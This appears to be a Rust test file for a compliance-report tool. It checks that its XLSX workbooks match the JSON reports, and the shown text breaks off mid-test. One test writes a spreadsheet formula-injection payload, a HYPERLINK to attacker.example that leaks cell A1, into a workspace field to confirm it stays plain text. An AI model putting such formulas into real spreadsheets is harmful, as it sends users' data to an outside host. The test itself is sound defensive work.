//! The XLSX workbooks, read back as a spreadsheet program would (calamine): for every example, the gap report's,
//! the Statement of Applicability's and the plan's workbooks have the documented sheets and headers, one row per
//! item of the JSON, and the same values; workspace text stays text, never a formula; and two runs write the same
//! bytes. tests/xlsx_voice.rs reads the client's voice.

#[path = "common/xlsx.rs"]
mod book;
mod common;

use aims::render::xlsx::MAX_LIST_LINES;
use book::{Book, EXAMPLES, date, json, label, listed, number, opt_str, practitioner, run, text, workbook};
use calamine::Data;
use common::{AS_OF, aims, copy_dir};
use serde_json::Value;

const REPORT_SHEETS: [&str; 8] = [
    "Summary",
    "Requirements",
    "Statement of Applicability",
    "Plan",
    "Systems",
    "Findings",
    "EU AI Act obligations",
    "Evidence references",
];

/// The gap workbook's sheets for a report: [`REPORT_SHEETS`], with Units after Systems when the report has units,
/// and Risks and Impact assessments after them when it has risk records.
fn report_sheets(report: &Value) -> Vec<&'static str> {
    let mut names = REPORT_SHEETS[..5].to_vec();
    if !report["units"].as_array().unwrap().is_empty() {
        names.push("Units");
    }
    if !report["risk"].is_null() {
        names.extend(["Risks", "Impact assessments"]);
    }
    names.extend(&REPORT_SHEETS[5..]);
    names
}

#[test]
fn the_gap_workbook_has_the_json_reports_values_for_every_example() {
    for dir in EXAMPLES {
        let report = json("gap", dir);
        let book = practitioner("gap", dir);
        assert_eq!(book.names, report_sheets(&report), "{dir}");
        assert_eq!(book.formulas, 0, "{dir}: no cell is a formula");
        assert_eq!(workbook("gap", dir).names, book.names, "{dir}: both voices have the same sheets");

        // Summary.
        assert_eq!(text(&book.pair("Summary", "Organisation")), report["organisation"]["name"].as_str().unwrap());
        assert_eq!(date(&book.pair("Summary", "Assessed as of")), AS_OF);
        assert_eq!(number(&book.pair("Summary", "Score (%)")), report["summary"]["score"].as_f64(), "{dir}");
        for (key, value) in report["summary"]["counts"].as_object().unwrap() {
            let shown = number(&book.pair("Summary", label(&Value::String(key.clone()))));
            assert_eq!(shown, value.as_f64(), "{dir}: {key}");
        }
        assert_eq!(number(&book.pair("Summary", "Findings")), report["summary"]["findings"].as_f64());
        assert_eq!(text(&book.pair("Summary", "Gate")), "no gate set");

        // Requirements: one row per requirement, in catalogue order.
        let requirements = report["requirements"].as_array().unwrap();
        let rows = book.rows("Requirements");
        assert_eq!(rows.len(), requirements.len(), "{dir}");
        for (row, r) in rows.iter().zip(requirements) {
            let id = r["id"].as_str().unwrap();
            assert_eq!(text(&row["ID"]), id);
            assert_eq!(text(&row["Title"]), r["title"].as_str().unwrap());
            assert_eq!(text(&row["Status"]), label(&r["status"]), "{dir} {id}");
            assert_eq!(number(&row["Score (%)"]), r["score"].as_f64(), "{dir} {id}");
            assert_eq!(text(&row["Owner"]), opt_str(&r["owner"]), "{dir} {id}");
            assert_eq!(text(&row["Waived"]), if r["waived"].as_bool().unwrap() { "Yes" } else { "" });
            let findings = r["findings"].as_array().unwrap();
            assert_eq!(listed(&text(&row["Findings"])), findings.len(), "{dir} {id}: one finding per line");
            let evidence = text(&row["Evidence"]);
            let records = r["evidence"].as_array().unwrap();
            for e in records.iter().take(MAX_LIST_LINES) {
                let name = e["file"].as_str().or(e["register_id"].as_str()).or(e["url"].as_str());
                if let Some(name) = name {
                    assert!(evidence.contains(name), "{dir} {id}: {name} in {evidence}");
                }
            }
            assert_eq!(!text(&row["AI systems"]).is_empty(), !r["system_counts"].is_null(), "{dir} {id}");
        }

        // Findings: one row per finding, in the report's order, within a requirement the organisation's first and
        // then the AI systems' by unit and ID (as every list of systems).
        let position = systems_by_unit(&report);
        let findings: Vec<(&str, &Value)> = requirements
            .iter()
            .flat_map(|r| {
                let mut listed: Vec<&Value> = r["findings"].as_array().unwrap().iter().collect();
                listed.sort_by_key(|f| f["system"].as_str().map(|s| position[s]));
                listed.into_iter().map(move |f| (r["id"].as_str().unwrap(), f))
            })
            .collect();
        let rows = book.rows("Findings");
        assert_eq!(rows.len(), findings.len(), "{dir}");
        assert_eq!(rows.len() as u64, report["summary"]["findings"].as_u64().unwrap());
        for (row, (id, f)) in rows.iter().zip(&findings) {
            assert_eq!(text(&row["Requirement"]), *id);
            assert_eq!(text(&row["Code"]), f["code"].as_str().unwrap());
            assert_eq!(text(&row["Severity"]).to_lowercase(), f["severity"].as_str().unwrap());
            assert_eq!(text(&row["AI system"]), opt_str(&f["system"]));
            assert_eq!(text(&row["File"]), opt_str(&f["location"]["file"]), "{dir} {id}");
            let line = f["location"]["line"].as_f64().filter(|l| *l > 0.0);
            assert_eq!(number(&row["Line"]), line, "{dir} {id}");
        }

        // Systems: every system, and its status for every per-system requirement.
        let per_system: Vec<&Value> = requirements.iter().filter(|r| r["scope"] == "ai_system").collect();
        let header = book.header("Systems");
        let matrix: Vec<&str> = per_system.iter().map(|r| r["id"].as_str().unwrap()).collect();
        assert_eq!(header[header.len() - matrix.len()..], matrix, "{dir}");
        let rows = book.rows("Systems");
        let mut systems: Vec<&Value> = report["systems"].as_array().unwrap().iter().collect();
        systems.sort_by_key(|s| position[s["id"].as_str().unwrap()]);
        assert_eq!(rows.len(), systems.len(), "{dir}");
        for (row, s) in rows.iter().zip(&systems) {
            let id = s["id"].as_str().unwrap();
            assert_eq!(text(&row["ID"]), id, "{dir}: by unit, then ID");
            assert_eq!(text(&row["AI role"]), s["ai_role"].as_str().unwrap(), "{dir} {id}: the YAML's value");
            // The Unit column is there only when some system names a unit.
            match row.get("Unit") {
                Some(unit) => assert_eq!(text(unit), opt_str(&s["unit"]), "{dir} {id}"),
                None => assert!(systems.iter().all(|s| s["unit"].is_null()), "{dir}: a unit is set, no Unit column"),
            }
            assert_eq!(number(&row["Score (%)"]), s["score"].as_f64(), "{dir} {id}");
            for r in &per_system {
                let rid = r["id"].as_str().unwrap();
                let expected = match r["systems"].as_array().unwrap().iter().find(|x| x["system"] == id) {
                    None => "",
                    Some(x) => match (x["status"].as_str().unwrap(), x["applicability"].as_str().unwrap()) {
                        ("not_applicable", "not_yet_due") => "Not yet due",
                        ("not_applicable", "retired") => "Retired",
                        _ => label(&x["status"]),
                    },
                };
                assert_eq!(text(&row[rid]), expected, "{dir} {id} {rid}");
                if !expected.is_empty() && expected != "Not yet due" && expected != "Retired" {
                    assert_eq!(label(&s["statuses"][rid]), expected, "{dir} {id} {rid}");
                }
            }
        }

        // EU AI Act obligations: the organisation's, then each system's.
        let rows = book.rows("EU AI Act obligations");
        let eu = &report["eu_ai_act"];
        let mut expected: Vec<(String, &Value)> = Vec::new();
        if !eu.is_null() {
            expected.extend(eu["organisation"].as_array().unwrap().iter().map(|o| ("Organisation".to_string(), o)));
            for s in eu["systems"].as_array().unwrap() {
                let id = s["id"].as_str().unwrap().to_string();
                expected.extend(s["obligations"].as_array().unwrap().iter().map(|o| (id.clone(), o)));
            }
        }
        assert_eq!(rows.len(), expected.len(), "{dir}");
        for (row, (applies_to, o)) in rows.iter().zip(&expected) {
            assert_eq!(&text(&row["Applies to"]), applies_to);
            assert_eq!(text(&row["Obligation"]), o["id"].as_str().unwrap());
            assert_eq!(date(&row["Applies from"]), o["applies_from"].as_str().unwrap());
            // An obligation whose date has passed has no days left: the cell is empty, and Applies now says Yes, or
            // "Not yet" for a system not yet placed on the market.
            let in_force = o["in_force"].as_bool().unwrap();
            let now = text(&row["Applies now"]);
            match (in_force, o["applies_now"].as_bool().unwrap()) {
                (_, true) => assert_eq!(now, "Yes"),
                (true, false) => assert!(now.starts_with("Not yet (in "), "{now}"),
                (false, false) => assert_eq!(now, "No"),
            }
            assert_eq!(number(&row["Days left"]), if in_force { None } else { o["days_left"].as_f64() });
            assert_eq!(number(&row["Coverage (%)"]), o["coverage"].as_f64());
        }

        // The SoA and plan sheets are the ones of `aims soa` and `aims plan`, in either voice.
        let soa = practitioner("soa", dir);
        assert_eq!(book.sheet("Statement of Applicability"), soa.sheet("Statement of Applicability"), "{dir}");
        let plan = practitioner("plan", dir);
        assert_eq!(book.sheet("Plan"), plan.sheet("Plan"), "{dir}");
        let client = workbook("gap", dir);
        let soa = workbook("soa", dir);
        assert_eq!(client.sheet("Statement of Applicability"), soa.sheet("Statement of Applicability"), "{dir}");
        assert_eq!(client.sheet("Plan"), workbook("plan", dir).sheet("Plan"), "{dir}");
    }
}

#[test]
fn the_soa_and_plan_workbooks_match_their_json_for_every_example() {
    for dir in EXAMPLES {
        let soa = json("soa", dir);
        let book = workbook("soa", dir);
        let mut sheets = vec!["Summary", "Statement of Applicability", "Evidence references"];
        // The annex of the risks the reasons cite, when they cite any.
        if soa.get("risks").is_some() {
            sheets.push("Risks treated");
        }
        assert_eq!(book.names, sheets, "{dir}");
        assert_eq!(book.formulas, 0);
        assert_eq!(number(&book.pair("Summary", "Included")), soa["included"].as_f64());
        assert_eq!(number(&book.pair("Summary", "Excluded")), soa["excluded"].as_f64());
        let controls = soa["controls"].as_array().unwrap();
        let rows = book.rows("Statement of Applicability");
        assert_eq!(rows.len(), controls.len(), "{dir}");
        for (row, c) in rows.iter().zip(controls) {
            let id = c["id"].as_str().unwrap();
            assert_eq!(text(&row["Control"]), id);
            assert_eq!(text(&row["Included"]), if c["included"].as_bool().unwrap() { "Yes" } else { "No" });
            assert_eq!(text(&row[&format!("Implementation (assessed {AS_OF})")]), label(&c["status"]), "{dir} {id}");
            // The client's workbook words a missing justification and the default reason as the Markdown does.
            let missing = c["justification"].is_null() && !c["findings"].as_array().unwrap().is_empty();
            let justification = if missing { "To be written".to_string() } else { opt_str(&c["justification"]) };
            assert_eq!(text(&row["Justification"]), justification, "{dir} {id}");
            if c["reasons_default"] == true {
                assert_eq!(text(&row["Reasons"]), "risk treatment (assumed; to confirm)", "{dir} {id}");
            }
            assert_eq!(text(&row["Owner"]), opt_str(&c["owner_text"]), "{dir} {id}");
            assert_eq!(listed(&text(&row["AI systems"])), c["systems"].as_array().unwrap().len(), "{dir} {id}");
        }

        let plan = json("plan", dir);
        let book = practitioner("plan", dir);
        assert_eq!(book.names, ["Summary", "Plan"], "{dir}");
        assert_eq!(book.formulas, 0);
        assert_eq!(number(&book.pair("Summary", "Actions")), plan["actions"].as_f64());
        assert_eq!(number(&book.pair("Summary", "Overdue")), plan["overdue"].as_f64());
        let actions: Vec<&Value> =
            plan["phases"].as_array().unwrap().iter().flat_map(|p| p["actions"].as_array().unwrap()).collect();
        let rows = book.rows("Plan");
        assert_eq!(rows.len(), actions.len(), "{dir}");
        for (row, a) in rows.iter().zip(&actions) {
            assert_eq!(number(&row["Rank"]), a["rank"].as_f64());
            assert_eq!(text(&row["Reference (for re-import)"]), a["id"].as_str().unwrap());
            // Every requirement it closes, led by the one that puts it in its phase, and the action's status, as
            // the JSON gives them (a system's status, or each requirement's, is in Notes).
            let ids: Vec<&str> = a["requirements"].as_array().unwrap().iter().map(|r| r.as_str().unwrap()).collect();
            assert_eq!(text(&row["Requirement"]), ids.join(", "));
            assert_eq!(text(&row["Status"]), label(&a["status"]));
            assert_eq!(text(&row["Action"]), a["action"].as_str().unwrap());
            // An action other actions carry out refers to them by rank, as the documents do; the JSON has no owner
            // or due date of its own for it.
            if a["carried_by"].is_array() {
                assert!(text(&row["Owner"]).starts_with("see action"), "{}", text(&row["Owner"]));
                assert_eq!(text(&row["Due date"]), text(&row["Owner"]));
                continue;
            }
            assert_eq!(text(&row["Owner"]), opt_str(&a["owner"]));
            assert_eq!(date(&row["Due date"]), opt_str(&a["due"]));
        }
    }
}

#[test]
fn every_register_has_its_documented_header() {
    let client = workbook("gap", EXAMPLES[1]);
    assert_eq!(client.header("Requirements")[11], "What falls short");
    assert_eq!(
        client.header("Findings"),
        [
            "Requirement",
            "Code",
            "AI system",
            "Message",
            "File",
            "Line",
            "Evidence",
            "Waived",
            "Status (of the AI system, if named)"
        ]
    );
    assert_eq!(client.header("EU AI Act obligations")[..3], ["Applies to", "Article", "What it asks"]);
    assert!(!client.header("EU AI Act obligations").contains(&"Note".to_string()));
    let book = practitioner("gap", EXAMPLES[1]);
    assert_eq!(
        book.header("Requirements"),
        [
            "ID",
            "Type",
            "Clause or objective",
            "Title",
            "Status",
            "Score (%)",
            "Waived",
            "Applicability",
            "AI systems",
            "Owner",
            "Evidence",
            "Findings",
            "Next action",
            "Due date",
            "Justification"
        ]
    );
    assert_eq!(
        book.header("Findings"),
        [
            "Requirement",
            "Code",
            "Severity",
            "AI system",
            "Message",
            "File",
            "Line",
            "Evidence",
            "Action",
            "Waived",
            "Status (of the AI system, if named)"
        ]
    );
    assert_eq!(
        book.header("Systems")[..9],
        [
            "ID",
            "Name",
            "Owner",
            "AI role",
            "Life-cycle stage",
            "In scope",
            "EU AI Act classification",
            "Score (%)",
            "Not yet due"
        ]
    );
    assert_eq!(
        book.header("Statement of Applicability")[..5],
        ["Control", "Objective", "Title", "Included", "Decision"]
    );
    assert_eq!(book.header("Plan")[..3], ["Rank", "Phase", "Priority"]);
    assert_eq!(book.header("Plan").last().unwrap(), "Reference (for re-import)");
    assert_eq!(book.header("EU AI Act obligations")[..3], ["Applies to", "System name", "Obligation"]);
}

#[test]
fn two_runs_write_the_same_bytes() {
    for verb in ["gap", "soa", "plan"] {
        let args = [verb, EXAMPLES[3], "--as-of", AS_OF, "--format", "xlsx"];
        assert_eq!(run(&args), run(&args), "{verb}");
    }
}

/// Text that a spreadsheet would run as a formula stays the text it was, in a string cell.
#[test]
fn workspace_text_that_looks_like_a_formula_stays_text() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("ws");
    copy_dir(std::path::Path::new(EXAMPLES[0]), &dir);
    let hyperlink = r#"=HYPERLINK("https://attacker.example/?leak="&A1,"Click for details")"#;
    let organisation = std::fs::read_to_string(dir.join("organisation.yaml")).unwrap();
    let name_line = organisation.lines().find(|l| l.starts_with("name:")).unwrap();
    let organisation = organisation.replacen(name_line, &format!("name: '{}'", hyperlink.replace('\'', "''")), 1);
    std::fs::write(dir.join("organisation.yaml"), organisation).unwrap();
    let assessment_file = dir.join("assessment.yaml");
    let assessment = std::fs::read_to_string(&assessment_file).unwrap();
    let owner_line = assessment.lines().find(|l| l.trim_start().starts_with("owner:")).unwrap().to_string();
    let indent = &owner_line[..owner_line.len() - owner_line.trim_start().len()];
    std::fs::write(&assessment_file, assessment.replacen(&owner_line, &format!("{indent}owner: '+1'"), 1)).unwrap();
    let dir = dir.to_str().unwrap();

    let book = workbook("gap", dir);
    assert_eq!(book.formulas, 0, "no cell is a formula");
    assert_eq!(book.pair("Summary", "Organisation"), Data::String(hyperlink.to_string()));
    let rows = book.rows("Requirements");
    assert!(rows.iter().any(|r| r["Owner"] == Data::String("+1".to_string())), "the owner `+1` is a string cell");
    for verb in ["soa", "plan"] {
        let book = workbook(verb, dir);
        assert_eq!(book.formulas, 0, "{verb}");
        assert_eq!(book.pair("Summary", "Organisation"), Data::String(hyperlink.to_string()), "{verb}");
    }
}

#[test]
fn the_workbook_goes_where_the_output_and_report_flags_say() {
    let tmp = tempfile::tempdir().unwrap();
    let (by_extension, by_report) = (tmp.path().join("report.xlsx"), tmp.path().join("also.xlsx"));
    let report_flag = format!("xlsx={}", by_report.display());
    run(&["gap", EXAMPLES[0], "--as-of", AS_OF, "--output", by_extension.to_str().unwrap(), "--report", &report_flag]);
    let (a, b) = (std::fs::read(&by_extension).unwrap(), std::fs::read(&by_report).unwrap());
    assert_eq!(a, b);
    assert_eq!(Book::read(a).names, report_sheets(&json("gap", EXAMPLES[0])));
    // --check compares the committed workbook's bytes.
    let check = aims(&["gap", EXAMPLES[0], "--as-of", AS_OF, "--check", by_extension.to_str().unwrap()]);
    assert_eq!(check.status.code(), Some(0), "{}", String::from_utf8_lossy(&check.stderr));
    let check = aims(&["gap", EXAMPLES[0], "--as-of", "2026-12-31", "--check", by_extension.to_str().unwrap()]);
    assert_eq!(check.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&check.stderr).contains("is out of date"));
    // The documents pick the workbook from the extension too.
    let soa = tmp.path().join("soa.xlsx");
    run(&["soa", EXAMPLES[0], "--as-of", AS_OF, "--output", soa.to_str().unwrap()]);
    assert_eq!(
        Book::read(std::fs::read(&soa).unwrap()).names,
        ["Summary", "Statement of Applicability", "Evidence references"]
    );
}

/// In a large inventory a list inside a cell stops after a hundred items and says how many more there are; the
/// Systems sheet still has every system.
#[test]
fn long_lists_in_a_cell_are_cut_with_a_count_and_the_systems_sheet_is_whole() {
    let (_tmp, dir) = common::generated(150);
    let dir = dir.as_str();
    let output = aims(&["gap", dir, "--as-of", AS_OF, "--format", "json"]);
    let report: Value = serde_json::from_slice(&output.stdout).unwrap();
    let book =
        Book::read(aims(&["gap", dir, "--as-of", AS_OF, "--format", "xlsx", "--audience", "practitioner"]).stdout);
    assert_eq!(book.rows("Systems").len(), 150);
    let mut cut = 0;
    for (row, r) in book.rows("Requirements").iter().zip(report["requirements"].as_array().unwrap()) {
        assert_eq!(listed(&text(&row["Findings"])), r["findings"].as_array().unwrap().len(), "{}", r["id"]);
        let evidence = text(&row["Evidence"]);
        assert!(listed(&evidence) <= r["evidence"].as_array().unwrap().len(), "{}: each record once", r["id"]);
        cut += usize::from(evidence.contains("\n… and "));
    }
    assert!(cut > 0, "some requirement lists more than {MAX_LIST_LINES} evidence records");
}

/// The Risks and Impact assessments sheets hold the JSON report's risk register and impact assessments, row for row.
#[test]
fn the_risk_sheets_match_the_json_risk_section() {
    let dir = EXAMPLES[1];
    let report = json("gap", dir);
    let book = practitioner("gap", dir);
    let risk = &report["risk"];
    assert!(!risk.is_null(), "{dir} keeps a risk register");
    assert_eq!(
        book.header("Risks"),
        [
            "ID",
            "Title",
            "Source",
            "AI systems",
            "Owner",
            "Inherent likelihood",
            "Inherent consequence",
            "Inherent rating",
            "Above threshold",
            "Treatment",
            "Controls",
            "Open actions",
            "Overdue actions",
            "Residual rating",
            "Residual above threshold",
            "Acceptance",
            "Last review",
            "State"
        ]
    );
    let findings: Vec<&Value> =
        report["requirements"].as_array().unwrap().iter().flat_map(|r| r["findings"].as_array().unwrap()).collect();
    let risks = risk["risks"].as_array().unwrap();
    let rows = book.rows("Risks");
    assert_eq!(rows.len(), risks.len());
    let mut stated = 0;
    for (row, r) in rows.iter().zip(risks) {
        let id = r["id"].as_str().unwrap();
        assert_eq!(text(&row["ID"]), id);
        assert_eq!(text(&row["Title"]), r["title"].as_str().unwrap());
        assert_eq!(text(&row["Source"]), opt_str(&r["source"]), "{id}");
        let systems: Vec<&str> = r["systems"].as_array().unwrap().iter().map(|s| s.as_str().unwrap()).collect();
        assert_eq!(text(&row["AI systems"]), systems.join("\n"), "{id}");
        assert_eq!(text(&row["Owner"]), opt_str(&r["owner"]), "{id}");
        let inherent = &r["inherent"];
        assert_eq!(number(&row["Inherent likelihood"]), inherent["likelihood"].as_f64(), "{id}");
        assert_eq!(number(&row["Inherent consequence"]), inherent["consequence"].as_f64(), "{id}");
        assert_eq!(number(&row["Inherent rating"]), inherent["score"].as_f64(), "{id}");
        let flag = |v: &Value| if v["above_threshold"].as_bool() == Some(true) { "Yes" } else { "" };
        assert_eq!(text(&row["Above threshold"]), flag(inherent), "{id}");
        let mut treatment = opt_str(&r["treatment"]);
        if let Some(first) = treatment.get_mut(..1) {
            first.make_ascii_uppercase();
        }
        assert_eq!(text(&row["Treatment"]), treatment, "{id}: the option in words, as the report writes it");
        let controls: Vec<&str> = ["controls", "other_controls"]
            .iter()
            .flat_map(|k| r[*k].as_array().unwrap())
            .map(|c| c.as_str().unwrap())
            .collect();
        assert_eq!(text(&row["Controls"]), controls.join("\n"), "{id}");
        let actions = r["actions"].as_array().unwrap();
        let open: Vec<&Value> = actions.iter().filter(|a| a["done"].is_null()).collect();
        assert_eq!(listed(&text(&row["Open actions"])), open.len(), "{id}");
        for a in &open {
            let shown = text(&row["Open actions"]);
            assert!(shown.contains(a["description"].as_str().unwrap()), "{id}: {shown}");
            if let Some(due) = a["due"].as_str() {
                assert!(shown.contains(due), "{id}: {due} in {shown}");
            }
            if let Some(owner) = a["owner"].as_str() {
                assert!(shown.contains(owner), "{id}: {owner} in {shown}");
            }
        }
        let overdue = actions.iter().filter(|a| a["overdue"] == true).count();
        assert_eq!(number(&row["Overdue actions"]), Some(overdue as f64), "{id}");
        assert_eq!(number(&row["Residual rating"]), r["residual"]["score"].as_f64(), "{id}");
        assert_eq!(text(&row["Residual above threshold"]), flag(&r["residual"]), "{id}");
        let acceptance = &r["acceptance"];
        let expected = if acceptance.is_null() {
            String::new()
        } else {
            format!("{} on {}", acceptance["by"].as_str().unwrap(), acceptance["on"].as_str().unwrap())
        };
        assert_eq!(text(&row["Acceptance"]), expected, "{id}");
        assert_eq!(date(&row["Last review"]), opt_str(&r["reviewed"]), "{id}");
        // State: the codes of the risk findings located at the risk or at one of its actions.
        let places: Vec<&Value> =
            std::iter::once(&r["location"]).chain(actions.iter().map(|a| &a["location"])).collect();
        let mut codes: Vec<&str> = Vec::new();
        for f in &findings {
            let code = f["code"].as_str().unwrap();
            if code.starts_with("risk-") && places.contains(&&f["location"]) && !codes.contains(&code) {
                codes.push(code);
            }
        }
        assert_eq!(text(&row["State"]), codes.join("\n"), "{id}");
        stated += usize::from(!codes.is_empty());
    }
    assert!(stated > 0, "the example has risks with findings");

    let assessments = risk["impact_assessments"].as_array().unwrap();
    let rows = book.rows("Impact assessments");
    assert_eq!(rows.len(), assessments.len());
    assert!(!rows.is_empty());
    let yes_no = |v: &Value| if v.as_bool().unwrap() { "Yes" } else { "No" };
    for (row, a) in rows.iter().zip(assessments) {
        let id = a["system"].as_str().unwrap();
        assert_eq!(text(&row["AI system"]), id);
        let covered: Vec<&str> = a["areas"].as_array().unwrap().iter().map(|x| x["area"].as_str().unwrap()).collect();
        assert_eq!(text(&row["Areas covered"]), covered.join("\n"), "{id}");
        let missing: Vec<&str> = a["missing_areas"].as_array().unwrap().iter().map(|x| x.as_str().unwrap()).collect();
        assert_eq!(text(&row["Areas missing"]), missing.join("\n"), "{id}");
        assert_eq!(text(&row["Approved"]), if a["approval"].is_null() { "No" } else { "Yes" }, "{id}");
        assert_eq!(text(&row["Approved by"]), opt_str(&a["approval"]["by"]), "{id}");
        assert_eq!(date(&row["Approved on"]), opt_str(&a["approval"]["on"]), "{id}");
        assert_eq!(date(&row["Last review"]), opt_str(&a["reviewed"]), "{id}");
        assert_eq!(text(&row["Current"]), yes_no(&a["current"]), "{id}");
        assert_eq!(text(&row["Covers fundamental rights"]), yes_no(&a["fria_input"]), "{id}");
    }
}

/// Each system's position in the order of every list of systems: by unit, then ID, both in natural order (the
/// examples' units are not nested), no unit last.
fn systems_by_unit(report: &Value) -> std::collections::HashMap<String, usize> {
    use aims::ids::natural_cmp;
    let mut systems: Vec<(Option<&str>, &str)> =
        report["systems"].as_array().unwrap().iter().map(|s| (s["unit"].as_str(), s["id"].as_str().unwrap())).collect();
    systems.sort_by(|a, b| {
        let unit = match (a.0, b.0) {
            (Some(x), Some(y)) => natural_cmp(x, y),
            (x, y) => x.is_none().cmp(&y.is_none()),
        };
        unit.then_with(|| natural_cmp(a.1, b.1))
    });
    systems.iter().enumerate().map(|(i, (_, id))| (id.to_string(), i)).collect()
}

/// The Units sheet holds the JSON report's units, row for row; a workspace without units has no such sheet.
#[test]
fn the_units_sheet_matches_the_json_units() {
    let dir = EXAMPLES[2];
    let report = json("gap", dir);
    let book = workbook("gap", dir);
    let units = report["units"].as_array().unwrap();
    assert!(!units.is_empty(), "{dir} has units");
    let rows = book.rows("Units");
    assert_eq!(rows.len(), units.len());
    for (row, u) in rows.iter().zip(units) {
        let unit = u["unit"].as_str().unwrap_or("No unit");
        assert_eq!(text(&row["Unit"]), unit);
        // The full name, never the code again; no Depth column when no unit is nested.
        let name = u["name"].as_str().unwrap();
        assert_eq!(text(&row["Name"]), if unit.ends_with(name) { "" } else { name }, "{unit}");
        assert!(!row.contains_key("Depth") && u["depth"] == 0, "{unit}");
        assert_eq!(number(&row["AI systems"]), Some(u["systems"].as_array().unwrap().len() as f64), "{unit}");
        let (in_scope, retired) = (u["systems_in_scope"].as_u64().unwrap(), u["systems_retired"].as_u64().unwrap());
        assert_eq!(number(&row["Active in scope"]), Some((in_scope - retired) as f64), "{unit}");
        assert_eq!(number(&row["Retired in scope"]), Some(retired as f64), "{unit}");
        assert_eq!(number(&row["Non-compliant systems"]), u["systems_non_compliant"].as_f64(), "{unit}");
        for (key, value) in u["counts"].as_object().unwrap() {
            assert_eq!(number(&row[label(&Value::String(key.clone()))]), value.as_f64(), "{unit}: {key}");
        }
        assert_eq!(number(&row["Not yet due"]), u["not_yet_due"].as_f64(), "{unit}");
        assert_eq!(number(&row["Score (%)"]), u["score"].as_f64(), "{unit}");
    }
    let without = workbook("gap", EXAMPLES[0]);
    if json("gap", EXAMPLES[0])["units"].as_array().unwrap().is_empty() {
        assert!(!without.names.iter().any(|n| n == "Units"));
    }
}

/// The Statement of Applicability sheet speaks to the client as the Markdown and HTML SoA do: it names each document
/// by its title and each AI system by its name, and the appendix sheet gives the file or reference behind each name.
#[test]
fn the_xlsx_soa_names_documents_by_title_and_keeps_paths_in_its_appendix() {
    for dir in EXAMPLES {
        let soa = json("soa", dir);
        let book = workbook("soa", dir);
        let mut paths = Vec::new();
        for (row, c) in book.rows("Statement of Applicability").iter().zip(soa["controls"].as_array().unwrap()) {
            let evidence = text(&row["Evidence"]);
            for e in c["evidence"].as_array().unwrap() {
                if let Some(file) = e["file"].as_str() {
                    assert!(!evidence.contains(file), "{dir} {}: {file} in {evidence:?}", c["id"]);
                    paths.push(file.to_string());
                }
            }
            assert!(!evidence.contains("not verified by aims"), "{dir}: {evidence:?}");
            for s in c["systems"].as_array().unwrap() {
                let name = s["name"].as_str().unwrap();
                assert!(text(&row["AI systems"]).contains(name) || listed(&text(&row["AI systems"])) >= MAX_LIST_LINES);
            }
        }
        let references: Vec<String> =
            book.rows("Evidence references").iter().map(|r| text(&r["File or reference"])).collect();
        for path in &paths {
            assert!(references.contains(path), "{dir}: {path} is on the Evidence references sheet");
        }
        assert_eq!(
            book.header("Evidence references"),
            ["Control", "Document", "AI systems", "File or reference", "State"]
        );
    }
    // A record's title is the document's name.
    let book = workbook("soa", "examples/healthtech-provider");
    let a53 = book.rows("Statement of Applicability").into_iter().find(|r| text(&r["Control"]) == "A.5.3").unwrap();
    assert!(
        text(&a53["Evidence"]).contains("Meridale Imaging Worklist Prioritiser: Impact assessment of the Imaging Worklist Prioritiser, version 0.4 — draft, not approved"),
        "{}",
        text(&a53["Evidence"])
    );
}

/// The Summary sheet counts the AI systems as the report lists them: the active ones in scope, the retired ones still
/// in scope apart, and those out of scope (fintech's retired scorecard, which the report names as out of scope and not
/// assessed); the three add up to the inventory and agree with the JSON report and the Markdown's sentences.
#[test]
fn workbook_retired_count_matches_report() {
    for dir in EXAMPLES {
        let report = json("gap", dir);
        let book = workbook("gap", dir);
        let systems = report["systems"].as_array().unwrap();
        let (in_scope, retired) = (
            report["summary"]["systems_in_scope"].as_f64().unwrap(),
            report["summary"]["systems_retired"].as_f64().unwrap(),
        );
        let out = systems.iter().filter(|s| s["in_scope"] == false).count() as f64;
        let count = |label: &str| number(&book.pair("Summary", label)).unwrap_or_else(|| panic!("{dir}: {label}"));
        assert_eq!(count("AI systems in scope"), in_scope - retired, "{dir}");
        assert_eq!(count("Retired AI systems in scope"), retired, "{dir}");
        assert_eq!(count("AI systems out of scope"), out, "{dir}");
        assert_eq!(count("AI systems listed"), systems.len() as f64, "{dir}");
        assert_eq!(in_scope + out, systems.len() as f64, "{dir}: the three add up to the inventory");

        // The Markdown names the same systems: out of scope after its tables, retired ones in scope apart.
        let markdown = String::from_utf8(run(&["gap", dir, "--as-of", AS_OF, "--format", "markdown"])).unwrap();
        let line = |prefix: &str| markdown.lines().find(|l| l.starts_with(prefix)).unwrap_or_default().to_string();
        let out_line = line("Out of scope and not assessed:");
        for s in systems.iter().filter(|s| s["in_scope"] == false) {
            assert!(out_line.contains(s["name"].as_str().unwrap()), "{dir}: {out_line}");
        }
        assert_eq!(out_line.is_empty(), out == 0.0, "{dir}");
        assert_eq!(line("Retired, so that no per-system control applies").is_empty(), retired == 0.0, "{dir}");
    }
    let book = workbook("gap", "examples/fintech-ai-provider");
    assert_eq!(number(&book.pair("Summary", "Retired AI systems in scope")), Some(0.0));
    assert_eq!(
        number(&book.pair("Summary", "AI systems out of scope")),
        Some(1.0),
        "Application scorecard v3 (retired)"
    );
}

/// The document's author (File › Info in a spreadsheet program) is the assessor and firm of the front matter, not the
/// tool; the bytes stay the same from run to run.
#[test]
fn workbook_author_is_not_the_tool() {
    use std::io::Read;
    let args = ["gap", "examples/fintech-ai-provider", "--as-of", AS_OF, "--format", "xlsx"];
    let bytes = run(&args);
    assert_eq!(bytes, run(&args));
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut core = String::new();
    archive.by_name("docProps/core.xml").unwrap().read_to_string(&mut core).unwrap();
    assert!(!core.contains("<dc:creator>aims</dc:creator>"), "{core}");
    assert!(
        core.contains("<dc:creator>Ruth Adebayo, Principal Consultant, Kestrel Assurance LLP</dc:creator>"),
        "{core}"
    );
}

/// The fintech workbook's Systems sheet had a Unit column empty in every row. The column is there only when an AI
/// system names a unit, as the report's "By unit" section and the Units sheet are, in both voices.
#[test]
fn empty_unit_column_is_left_out() {
    for dir in EXAMPLES {
        let report = json("gap", dir);
        let named = report["systems"].as_array().unwrap().iter().any(|s| !s["unit"].is_null());
        for book in [workbook("gap", dir), practitioner("gap", dir)] {
            let has = book.header("Systems").iter().any(|h| h == "Unit");
            assert_eq!(has, named, "{dir}: Unit column");
            for sheet in &book.names {
                let Some(header) = book.sheet(sheet).rows().next() else { continue };
                if header.iter().any(|h| text(h) == "Unit") {
                    let rows = book.rows(sheet);
